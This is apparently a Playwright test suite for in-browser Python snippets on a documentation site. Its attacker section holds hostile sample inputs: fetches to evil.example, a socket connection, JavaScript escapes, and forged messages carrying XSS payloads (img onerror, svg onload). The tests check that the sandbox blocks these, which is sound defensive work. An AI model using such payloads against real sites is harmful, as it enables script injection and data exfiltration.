"""Code that runs in its page, in a real Chromium: for readers, against attackers, and where not."""

import re
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import nbformat
import pytest

from kb.runtime.manifest import WHEEL
from kb.runtime.store import compiled_place, served
from kb.snippets.compare import compare
from kb.snippets.find import find
from tests.browser.conftest import build, darken, opened, until, violations
from tests.catalogs import ROOT, TOY

pytestmark = pytest.mark.site

PLACE = "techniques/toy-pruning/"
FIGURE = f"../../{PLACE}figure.svg"
RUN, STOP, EDIT, RESET = (f"kb-run button.kb-{name}" for name in ("run", "stop", "edit", "reset"))
AREA, OUTPUT, STATUS = ".kb-editor textarea", ".kb-shown .kb-output code", "kb-run [role=status]"
LOADS = 90
SNIPPETS = find(ROOT / "catalog")


@pytest.fixture(scope="module")
def reader(chromium, toy_site, runtime):
    """One page of the toy site for many runs: Python is loaded once."""
    with opened(chromium) as page:
        page.goto(toy_site + PLACE)
        yield page


@pytest.fixture
def fresh(reader):
    """The same page as it was at first, but with Python at hand."""
    reader.click(RESET)
    reader.troubles.clear()
    return reader


def state(page):
    return page.get_attribute("kb-run", "data-state")


def settled(page):
    """Waits for the end of a run; gives its last state. (Playwright polls too slowly.)"""
    return until(
        page,
        "() => { const { state } = document.querySelector('kb-run').dataset;"
        " return !['loading', 'running'].includes(state) && (state || 'none'); }",
        seconds=LOADS,
    )


def type_in(page, code):
    if not page.locator(AREA).count():
        page.click(EDIT)
    page.fill(AREA, code)


def run(page, code=None):
    """Run ``code``, or what stands there; gives the state in which it ends."""
    if code is not None:
        type_in(page, code)
    page.click(RUN)
    return settled(page)


def output(page):
    return page.inner_text(OUTPUT).rstrip("\n")


def started(page):
    until(page, "() => document.querySelector('kb-run').dataset.state === 'running'", seconds=LOADS)


def workers(page, seconds=10):
    """How many workers the page has, after those that were ended had time to go."""
    end = time.monotonic() + seconds
    page.wait_for_timeout(300)
    while page.workers and time.monotonic() < end:
        page.wait_for_timeout(100)
    return len(page.workers)


RECORDED = (TOY / PLACE / "output.txt").read_text(encoding="utf-8").strip("\n")


# As a reader uses it


def test_before_anything_is_pressed_all_is_there_and_nothing_is_loaded(page, toy_site, runtime):
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(toy_site + PLACE)
    page.wait_for_load_state("networkidle")
    assert output(page) == RECORDED
    assert page.evaluate("document.querySelector('.kb-figure img').naturalWidth") > 0
    assert page.inner_text(RUN) == "Run 11 MB, once"
    assert page.locator(STOP).is_disabled() and page.inner_text(STATUS) == ""
    assert not any("/runtime/" in url or "worker" in url or "lab.zip" in url for url in asked)
    assert page.troubles == []


def test_run_prints_what_is_recorded_draws_and_tells_the_time(fresh):
    before = fresh.get_attribute(".kb-figure img", "src")
    assert run(fresh) == "same"
    assert compare(RECORDED, output(fresh)) == []
    assert "as recorded" in fresh.inner_text(STATUS)
    assert fresh.get_attribute(".kb-figure img", "src").startswith("blob:") and before == FIGURE
    assert fresh.get_attribute(".kb-figure img", "alt").startswith(
        "Small toys need little room. With three of ten toys"
    )
    assert (
        fresh.evaluate(
            "document.querySelector('.kb-figure img').decode()"
            ".then(() => document.querySelector('.kb-figure img').naturalWidth)"
        )
        > 0
    )
    assert fresh.inner_text(".kb-time").endswith(" s") and "output of your run" in fresh.inner_text(
        ".kb-shown .kb-caption"
    )
    assert fresh.inner_text(RUN) == "Run"
    assert fresh.troubles == []


def test_edited_code_runs_and_what_differs_is_said(fresh):
    assert run(fresh, "print('toys 7')") == "other"
    assert output(fresh) == "toys 7"
    fresh.click(".kb-differences summary")
    assert (
        fresh.locator(".kb-differences li").all_text_contents()[0]
        == "line 1: `toys 7` found, `toys     room needed` expected"
    )


def test_reset_brings_back_code_output_and_figure(fresh):
    run(
        fresh,
        "from kb.lab import bars, show\nprint(1)\nshow(bars({'a': 1.0}, title='Other', y='y'))",
    )
    assert fresh.get_attribute(".kb-figure img", "alt") == "Other"
    fresh.click(RESET)
    assert output(fresh) == RECORDED and fresh.locator(AREA).count() == 0
    assert fresh.get_attribute(
        ".kb-figure img", "src"
    ) == FIGURE and "Small toys" in fresh.get_attribute(".kb-figure img", "alt")
    assert fresh.locator(
        ".kb-code pre"
    ).first.is_visible() and "recorded output" in fresh.inner_text(".kb-shown .kb-caption")
    assert run(fresh) == "same"


def test_stop_ends_an_endless_loop_and_the_next_run_works(fresh):
    type_in(fresh, "print('on', flush=True)\nwhile True: pass")
    fresh.click(RUN)
    until(fresh, f"() => document.querySelector('{OUTPUT}').textContent === 'on\\n'")
    assert fresh.locator(RUN).is_disabled()
    begun = time.monotonic()
    fresh.click(STOP)
    assert state(fresh) == "stopped" and time.monotonic() - begun < 2
    assert run(fresh, "print('again')") == "other" and output(fresh) == "again"


def test_stop_while_python_loads(page, toy_site, runtime):
    page.goto(toy_site + PLACE)
    page.click(RUN)
    assert state(page) == "loading"
    page.click(STOP)
    assert state(page) == "stopped" and workers(page) == 0
    assert run(page) == "same"


ARRIVED = """() => {
  window.arrived = [];
  const look = () => {
    const said = document.querySelector("%s .kb-arriving span")?.textContent;
    if (said && said !== window.arrived.at(-1)) window.arrived.push(said);
  };
  new MutationObserver(look).observe(document.querySelector("%s"), {
    childList: true, subtree: true, characterData: true });
}"""


def test_the_download_tells_how_much_has_arrived(page, toy_site, runtime):
    page.goto(toy_site + PLACE)
    page.evaluate(ARRIVED.replace("%s", "kb-run"))
    assert run(page) == "same"
    told = page.evaluate("window.arrived")
    parts = [re.fullmatch(r"([\d.]+) / ([\d.]+) MB", one).groups() for one in told]
    done, whole = zip(*parts, strict=True)
    megabytes = [float(one) for one in done]
    assert len(told) > 3 and megabytes == sorted(megabytes) and len(set(whole)) == 1
    assert 0.8 * float(whole[0]) < megabytes[-1] <= float(whole[0])
    assert page.locator(".kb-arriving").count() == 0
    assert run(page) == "same" and page.evaluate("window.arrived") == told


def test_lines_appear_while_it_runs(fresh):
    type_in(fresh, "import time\nfor i in range(3):\n    print('line', i)\n    time.sleep(0.7)")
    fresh.click(RUN)
    seen = []
    for count in range(1, 4):
        until(
            fresh,
            f"() => document.querySelector('{OUTPUT}').textContent.split('\\n').length > {count}",
        )
        seen.append((output(fresh).count("line"), state(fresh)))
    assert seen == [(1, "running"), (2, "running"), (3, "running")]
    settled(fresh)


def test_an_error_is_shown_at_the_reader_s_line(fresh):
    assert run(fresh, "x = 1\n\ndef f():\n    return x / 0\n\nf()\n") == "failed"
    assert output(fresh).splitlines()[0] == "Traceback (most recent call last):"
    assert output(fresh).splitlines()[-1] == "ZeroDivisionError: division by zero"
    assert "at line 4" in fresh.inner_text(STATUS)
    assert fresh.inner_text(".kb-wrong") == "4" and fresh.locator(".kb-strip").is_visible()
    fresh.locator(AREA).press("End")
    fresh.keyboard.type(" ")
    assert fresh.locator(".kb-wrong").count() == 0 and fresh.locator(".kb-strip").is_hidden()


def test_a_failure_deep_in_the_lab_is_at_the_reader_s_line(fresh):
    assert run(fresh, "from kb.lab import dense_net\n\ndense_net(64, 10)(None)\n") == "failed"
    assert fresh.inner_text(".kb-wrong") == "3"


def test_what_is_no_python_is_marked_too(fresh):
    assert run(fresh, "print('a')\nfor in x:\n") == "failed"
    assert fresh.inner_text(".kb-wrong") == "2" and "SyntaxError" in output(fresh)


def test_each_run_begins_anew(fresh):
    run(fresh, "import kb.lab\nsecret = 1\nkb.lab.accuracy = None")
    run(fresh, "import kb.lab\nprint('secret' in globals(), callable(kb.lab.accuracy))")
    assert output(fresh) == "False True"


def test_numpy_is_there_and_is_the_one_that_was_promised(fresh):
    run(fresh, "import sys, numpy\nprint(numpy.__version__, sys.version_info[:2])")
    assert output(fresh) == f"{fresh.get_attribute('kb-run', 'data-numpy')} (3, 14)"


def test_modules_come_compiled_and_numpy_keeps_its_documentation(fresh, runtime):
    ahead = served(runtime)[f"{WHEEL}.packed"].parent == compiled_place(runtime)
    run(
        fresh,
        "import numpy, typing\nprint(numpy.__file__[-4:], typing.__file__[-4:], "
        "numpy.quantile.__doc__.split('.')[0].strip())",
    )
    assert output(fresh) == (
        f"{'.pyc .pyc' if ahead else '_.py g.py'} Compute the q-th quantile of the "
        "data along the specified axis"
    )


@pytest.mark.lab
def test_two_pages_in_a_row(page, site, runtime):
    for id in ("logarithmic-floating-point", "weight-sharing"):
        page.goto(f"{site}techniques/{id}/")
        assert run(page) in ("same", "all_hold")  # with claims, these are compared instead
    assert page.troubles == []


@pytest.mark.lab
def test_a_page_that_is_swapped_in_without_loading_works_and_the_old_run_ends(
    page, toy_site, runtime
):
    page.goto(toy_site + PLACE)
    type_in(page, "while True: pass")
    page.click(RUN)
    started(page)
    page.evaluate("""async () => {
        const source = await (await fetch(location.href)).text();
        const page = new DOMParser().parseFromString(source, "text/html");
        document.querySelector("article").replaceWith(page.querySelector("article"));
    }""")
    assert workers(page) == 0
    assert page.input_value(AREA) == "while True: pass", "an edit is kept for the page"
    page.click(RESET)
    assert run(page) == "same" and page.troubles == []


# The editor


def test_ctrl_enter_runs_and_escape_leaves(fresh):
    type_in(fresh, "print('keys')")
    fresh.locator(AREA).press("Control+Enter")
    assert settled(fresh) == "other" and output(fresh) == "keys"
    fresh.focus(AREA)
    fresh.keyboard.press("Escape")
    assert fresh.evaluate("document.activeElement.classList.contains('kb-edit')")


KEYS = {
    "a tab indents": ("", ["Tab", "x"], "    x"),
    "enter keeps the indent": ("    a", ["Enter", "b"], "    a\n    b"),
    "a colon adds one": ("if a:", ["Enter", "b"], "if a:\n    b"),
    "shift and tab take it back": ("    a", ["Shift+Tab"], "a"),
    "undo": ("a", ["Tab", "Control+z"], "a"),
    "a tab indents all that is selected": ("a\nb", ["Control+a", "Tab"], "    a\n    b"),
}


@pytest.mark.parametrize(("before", "keys", "after"), KEYS.values(), ids=KEYS.keys())
def test_keys_in_the_editor(fresh, before, keys, after):
    type_in(fresh, before)
    fresh.focus(AREA)
    fresh.keyboard.press("Control+End")
    for key in keys:
        fresh.keyboard.press(key)
    assert fresh.input_value(AREA) == after


def test_the_editor_holds_the_whole_code_and_numbers_its_lines(fresh):
    fresh.click(EDIT)
    assert fresh.input_value(AREA) == (TOY / PLACE / "snippet.py").read_text(
        encoding="utf-8"
    ).rstrip("\n")
    assert fresh.locator(".kb-numbers span").count() == fresh.input_value(AREA).count("\n") + 1
    assert fresh.evaluate("document.activeElement.tagName") == "TEXTAREA"


# As an attacker would

HOSTILE = {
    "the page": ("import js\njs.document.title = 'pwned'", "AttributeError: document"),
    "the network": ("import js\njs.fetch('https://evil.example/x')", "AttributeError: fetch"),
    "the network by Pyodide": (
        "from pyodide.http import open_url\nopen_url('https://evil.example/x')",
        "NameError: name 'XMLHttpRequest' is not defined",
    ),
    "a socket": ("import socket\nsocket.create_connection(('203.0.113.1', 80), 2)", "OSError: "),
    "JavaScript": (
        "from pyodide.code import run_js\nrun_js('postMessage(1)')",
        "ImportError: cannot import name 'eval' from 'js'",
    ),
    "a function made of text": (
        "import pyodide_js\npyodide_js.runPython.constructor('return this')()",
        "pyodide.ffi.JsException: EvalError: ",
    ),
    "messages": ("import js\njs.postMessage('{}')", "AttributeError: postMessage"),
    "a worker of its own": ("import js\njs.Worker.new('x')", "AttributeError: Worker"),
    "storage": ("import js\njs.indexedDB.open('x')", "AttributeError: indexedDB"),
}


@pytest.mark.parametrize(("code", "said"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_edit_cannot_reach(fresh, code, said):
    assert run(fresh, code) == "failed"
    assert output(fresh).splitlines()[-1].startswith(said)
    assert fresh.title() != "pwned" and fresh.troubles == []


@pytest.fixture
def stranger():
    """Another origin on loopback that serves scripts to anyone; its address and requested paths."""
    asked = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.end_headers()
            self.wfile.write(b"export default 1;")

        def log_message(self, *words):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/", asked
    server.shutdown()
    server.server_close()


def test_packages_of_another_origin_are_not_even_asked_for(fresh, stranger):
    address, asked = stranger
    run(fresh, f"import pyodide_js\npyodide_js.loadPackage('{address}evil-1-py3-none-any.whl')")
    fresh.wait_for_timeout(500)
    assert asked == []


def test_the_policy_holds_in_the_worker_even_for_its_own_scripts(fresh, stranger):
    """If the worker got back all that was taken from it: nothing beyond our origin, no `eval`."""
    address, asked = stranger
    run(fresh, "print(1)")
    worker = fresh.workers[0]
    names = [
        "fetch",
        "XMLHttpRequest",
        "WebSocket",
        "indexedDB",
        "Worker",
        "postMessage",
        "navigator",
    ]
    assert worker.evaluate("names => names.map(name => typeof self[name])", names) == [
        "undefined"
    ] * len(names)
    assert (
        worker.evaluate(
            "address => import(address).then(() => 'loaded', () => 'refused')", address + "x.mjs"
        )
        == "refused"
    )
    worker.evaluate("() => void setTimeout('self.reached = 1', 0)")
    fresh.wait_for_timeout(300)
    assert worker.evaluate("typeof self.reached") == "undefined"
    assert asked == []


def test_a_bare_worker_of_the_page_inherits_the_policy(page, toy_site, stranger):
    address, asked = stranger
    page.goto(toy_site)
    page.evaluate(
        "() => void new Worker(URL.createObjectURL("
        "new Blob(['self.here = 1'], {type: 'text/javascript'})), {type: 'module'})"
    )
    page.wait_for_timeout(500)
    assert (
        page.workers[0].evaluate(
            "address => fetch(address).then(() => 'loaded', () => 'refused')", address + "x"
        )
        == "refused"
    )
    assert asked == []


@pytest.mark.lab
def test_an_edit_that_breaks_its_own_python_is_stopped_and_run_works_again(fresh):
    run(fresh, "import sys, builtins\nsys.modules.clear()\nbuiltins.__dict__.clear()")
    assert state(fresh) in ("failed", "crashed")
    assert run(fresh, "print('fine')") == "other" and output(fresh) == "fine"


FORGED = {
    "no type": "{}",
    "markup as text": "{type: 'text', stream: 'out', text: '<img src=x onerror=document.title=1>'}",
    "no text": "{type: 'text', text: {toString: 1}}",
    "a picture with a script": (
        "{type: 'figure', svg: '<svg xmlns=\"http://www.w3.org/2000/svg\" "
        'onload="document.title=1"><script>document.title=1</script></svg>\'}'
    ),
    "no picture": "{type: 'figure', svg: 5}",
    "wrong numbers": "{type: 'done', seconds: 'x', line: -1, problem: '<b>x</b>'}",
    "wrong differences": "{type: 'done', seconds: 1, differences: [{}, '<b>x</b>']}",
    "an unknown type": "{type: 'navigate', url: 'https://evil.example/'}",
    "a long line": "{type: 'text', text: 'x'.repeat(5000000)}",
}


def test_forged_messages_do_no_harm(fresh):
    """Injected where the worker's messages arrive; the worker itself could not send them."""
    title = fresh.title()
    type_in(fresh, "import time\ntime.sleep(1)\nprint('end')")
    for name, message in FORGED.items():
        fresh.click(RUN)
        started(fresh)
        fresh.evaluate(f"document.querySelector('kb-run').hear({message})")
        fresh.wait_for_timeout(50)
        assert (
            fresh.title() == title and fresh.locator(".kb-shown b, .kb-output img").count() == 0
        ), name
        assert len(output(fresh)) <= 100_000, name
        settled(fresh)
    assert run(fresh, "print('fine')") == "other" and output(fresh) == "fine"
    assert fresh.troubles == []


def test_code_in_the_address_is_not_run(page, toy_site, runtime):
    page.goto(f"{toy_site}{PLACE}?code=print(1)&run=1#code=print(1)")
    page.wait_for_load_state("networkidle")
    assert workers(page) == 0 and "print(1)" not in page.inner_text(".kb-code")
    assert page.locator(AREA).count() == 0


def test_an_endless_printer_is_stopped_and_the_page_stays_alive(fresh):
    assert run(fresh, "while True: print('x' * 50)") == "flood"
    assert "too much output" in fresh.inner_text(STATUS) and len(output(fresh)) <= 100_000
    begun = time.monotonic()
    fresh.evaluate("1 + 1")
    assert time.monotonic() - begun < 1


@pytest.mark.lab
def test_memory_without_end_is_an_error_not_a_crash_of_the_page(fresh):
    assert run(
        fresh, "import numpy\nx = []\nwhile True: x.append(numpy.empty(200_000_000, numpy.int8))"
    ) in ("failed", "crashed")
    assert run(fresh, "print('fine')") == "other" and output(fresh) == "fine"


@pytest.mark.parametrize("limit", [1_000, 100_000])
def test_recursion_without_end_is_survived(fresh, limit):
    assert run(fresh, f"import sys\nsys.setrecursionlimit({limit})\ndef f(): f()\nf()") in (
        "failed",
        "crashed",
    )
    assert run(fresh, "print('fine')") == "other" and output(fresh) == "fine"


@pytest.mark.parametrize(
    "place", ["", PLACE, "topics/cutting/", "browse/", "map/", "status/", "404.html"]
)
def test_every_page_has_the_policy_and_the_worker_inherits_it(page, toy_site, place):
    page.goto(toy_site + place)
    found = page.get_attribute("meta[http-equiv=Content-Security-Policy]", "content")
    assert (
        "default-src 'none'" in found
        and "'unsafe-eval'" not in found
        and "'unsafe-inline'" not in found
        and "http" not in found.replace("http-equiv", "")
    )
    page.evaluate(
        "() => { const script = document.createElement('script');"
        " script.textContent = 'document.title = \"pwned\"'; document.body.append(script); }"
    )
    assert page.title() != "pwned"


# Where it cannot run


def test_a_site_without_the_runtime_says_so_and_shows_everything(page, tmp_path, serve):
    build(TOY, tmp_path / "site", KB_RUNTIME=str(tmp_path / "none"))
    page.goto(serve(tmp_path / "site") + PLACE)
    assert (
        "cannot be run here" in page.inner_text(".kb-norun")
        and page.locator("kb-run, .kb-bar button").count() == 0
    )
    assert output(page) == RECORDED and "import numpy" in page.inner_text(".kb-code")
    assert not (tmp_path / "site" / "assets" / "kb" / "lab.zip.packed").exists()
    assert page.troubles == []


@pytest.mark.parametrize(
    "lost",
    [
        "pyodide.mjs",
        "pyodide.asm.mjs",
        "pyodide.asm.wasm.packed",
        "python_stdlib.zip.packed",
        "numpy-*.whl.packed",
        "lab.zip.packed",
        "worker.js",
        "archive.js",
    ],
)
def test_a_missing_file_is_said(page, toy_site, runtime, lost):
    page.context.route(f"**/{lost}", lambda route: route.fulfill(status=404, body=""))
    page.goto(toy_site + PLACE)
    assert run(page) == "missing"
    assert "could not be loaded" in page.inner_text(STATUS) and page.locator(RUN).is_enabled()


def test_a_second_try_works_when_the_file_is_there_again(page, toy_site, runtime):
    page.context.route("**/lab.zip.packed", lambda route: route.fulfill(status=404, body=""))
    page.goto(toy_site + PLACE)
    assert run(page) == "missing"
    page.context.unroute("**/lab.zip.packed")
    assert run(page) == "same"


@pytest.mark.parametrize("lacking", ["WebAssembly", "Worker", "DecompressionStream"])
def test_a_browser_that_cannot_run_python_says_so(page, toy_site, runtime, lacking):
    page.add_init_script(f"delete window.{lacking}")
    page.goto(toy_site + PLACE)
    assert "cannot run Python" in page.inner_text(STATUS)
    assert page.locator("kb-run button").count() == 0 and output(page) == RECORDED


def test_without_javascript_all_results_are_there(chromium, toy_site):
    context = chromium.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(toy_site + PLACE)
    assert output(page) == RECORDED and page.locator("kb-run button").count() == 0
    assert (
        page.locator(".kb-figure img").is_visible()
        and page.locator("a[href$='toy-pruning.ipynb']").is_visible()
    )
    context.close()


# How it looks and reads


@pytest.mark.lab
def test_what_a_run_shows_is_accessible_in_both_schemes_and_narrow(fresh):
    for code in (None, "print(1)\n1 / 0"):
        run(fresh, code)
        fresh.evaluate("scrollTo(0, 0)")
        fresh.wait_for_timeout(300)
        assert violations(fresh) == []
    darken(fresh)
    assert violations(fresh, "color-contrast") == []
    fresh.set_viewport_size({"width": 360, "height": 800})
    assert fresh.evaluate("document.documentElement.scrollWidth") <= 360
    fresh.set_viewport_size({"width": 1280, "height": 900})
    fresh.locator("label[title='Switch to light mode']").click()


def test_the_figure_follows_the_switch_of_the_theme(page, toy_site):
    page.emulate_media(color_scheme="light")
    page.goto(toy_site + PLACE)
    image = page.locator(".kb-figure img")
    image.evaluate("image => image.decode()")
    light = image.screenshot()
    page.locator("label[title='Switch to dark mode']").click()
    page.wait_for_timeout(500)
    assert (
        page.evaluate("getComputedStyle(document.querySelector('.kb-figure img')).colorScheme")
        == "dark"
    )
    assert image.screenshot() != light


def test_topic_cards_show_the_figures(page, toy_site):
    page.goto(f"{toy_site}topics/cutting/")
    plots = page.locator(".kb-cards .kb-thumb")
    assert plots.count() == 2
    assert plots.first.locator("path, rect").count() > 1
    assert plots.first.bounding_box()["height"] > 50


def test_with_todays_libraries_code_and_output_are_shown(page, toy_site):
    page.goto(toy_site + PLACE)
    assert page.locator("h2", has_text="With today's libraries").is_visible()
    assert "import json" in page.inner_text(
        ".kb-code >> nth=1"
    ) and 'json {"toys": [3, 5, 8]}' in page.inner_text(".kb-output >> nth=1")


def test_downloads_are_what_they_say_and_the_notebook_runs(page, toy_site, tmp_path):
    page.goto(toy_site + PLACE)
    files = {
        link.get_attribute("href").rpartition("/")[2]: page.request.get(
            toy_site + PLACE + link.get_attribute("href")
        ).text()
        for link in page.locator(".kb-downloads a").all()
    }
    assert set(files) == {"toy-pruning.ipynb", "snippet.py", "libraries.py"}
    assert files["snippet.py"] == (TOY / PLACE / "snippet.py").read_text(encoding="utf-8")
    book = nbformat.reads(files["toy-pruning.ipynb"], as_version=4)
    nbformat.validate(book)
    script = tmp_path / "cells.py"
    script.write_text(
        "\n".join(cell.source for cell in book.cells if cell.cell_type == "code"), encoding="utf-8"
    )
    done = subprocess.run(
        [sys.executable, "-I", str(script)], capture_output=True, text=True, timeout=60, check=True
    )
    assert done.stdout.strip("\n") == RECORDED
